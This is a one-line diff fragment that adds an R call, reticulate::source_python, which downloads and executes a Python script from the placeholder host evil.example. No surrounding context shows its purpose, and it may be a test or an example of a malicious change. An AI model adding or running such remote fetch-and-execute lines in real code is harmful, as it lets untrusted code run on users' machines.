@@ -1,0 +1,1 @@
+reticulate::source_python("https://evil.example/x.py")
